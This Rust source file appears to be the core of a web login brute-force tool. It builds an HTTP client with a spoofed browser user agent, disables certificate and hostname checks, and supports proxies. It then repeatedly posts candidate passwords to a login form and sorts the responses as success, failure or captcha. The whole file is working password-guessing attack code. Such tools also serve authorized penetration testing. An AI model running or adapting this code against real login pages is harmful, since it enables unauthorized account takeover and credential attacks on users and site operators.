use std::time::Duration;

use reqwest::{redirect, Proxy};

use crate::classifier::{self, Classification, LoginResponse};
use crate::runner::{AttackError, AttackSpec, Outcome, SharedRunState};

const DEFAULT_USER_AGENT: &str =
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:95.0) Gecko/20100101 Firefox/95.0";

// breather after a transport failure so an unreachable target is not hammered
const TRANSPORT_COOLDOWN: Duration = Duration::from_secs(1);

pub fn build_client(spec: &AttackSpec) -> Result<reqwest::Client, AttackError> {
    let mut headers = reqwest::header::HeaderMap::new();
    let user_agent = spec.user_agent.as_deref().unwrap_or(DEFAULT_USER_AGENT);
    if let Ok(value) = reqwest::header::HeaderValue::from_str(user_agent) {
        headers.insert(reqwest::header::USER_AGENT, value);
    }

    let timeout = Duration::from_secs(spec.timeout_seconds.try_into().unwrap_or(10));
    let mut builder = reqwest::Client::builder()
        .default_headers(headers)
        .redirect(redirect::Policy::limited(10))
        .timeout(timeout)
        .danger_accept_invalid_hostnames(true)
        .danger_accept_invalid_certs(true);

    if let Some(proxy) = spec.proxy.as_deref().filter(|p| !p.trim().is_empty()) {
        let proxy = Proxy::all(proxy).map_err(|e| AttackError::ProxySetup {
            proxy: proxy.to_string(),
            source: e,
        })?;
        builder = builder.proxy(proxy);
    }

    builder
        .build()
        .map_err(|e| AttackError::HttpClientBuild { source: e })
}

// one login attempt. returns None without touching the network when the run
// is already cancelled; the caller still accounts for the skipped attempt.
pub async fn attempt(
    client: &reqwest::Client,
    spec: &AttackSpec,
    password: &str,
    state: &SharedRunState,
) -> Option<Outcome> {
    if state.is_cancelled() {
        return None;
    }

    let outcome = match send_login(client, spec, password).await {
        Ok(response) => match classifier::classify(&response, &spec.indicators) {
            Classification::Success => Outcome::Success {
                password: password.to_string(),
            },
            Classification::ExplicitFailure => Outcome::ExplicitFailure {
                password: password.to_string(),
            },
            Classification::AmbiguousFailure => Outcome::AmbiguousFailure {
                password: password.to_string(),
            },
            Classification::Captcha => Outcome::CaptchaDetected {
                password: password.to_string(),
            },
        },
        Err(e) => {
            tokio::time::sleep(TRANSPORT_COOLDOWN).await;
            Outcome::TransportError {
                password: password.to_string(),
                detail: e.to_string(),
            }
        }
    };

    // throttle per worker on every path, transport errors included
    if spec.delay > Duration::ZERO {
        tokio::time::sleep(spec.delay).await;
    }

    Some(outcome)
}

async fn send_login(
    client: &reqwest::Client,
    spec: &AttackSpec,
    password: &str,
) -> Result<LoginResponse, reqwest::Error> {
    let form = [
        (spec.username_field.as_str(), spec.username.as_str()),
        (spec.password_field.as_str(), password),
    ];
    let response = client.post(&spec.url).form(&form).send().await?;

    let status = response.status().as_u16();
    let final_url = response.url().to_string();
    let body = response.text().await?;

    Ok(LoginResponse {
        status,
        requested_url: spec.url.clone(),
        final_url,
        body,
    })
}
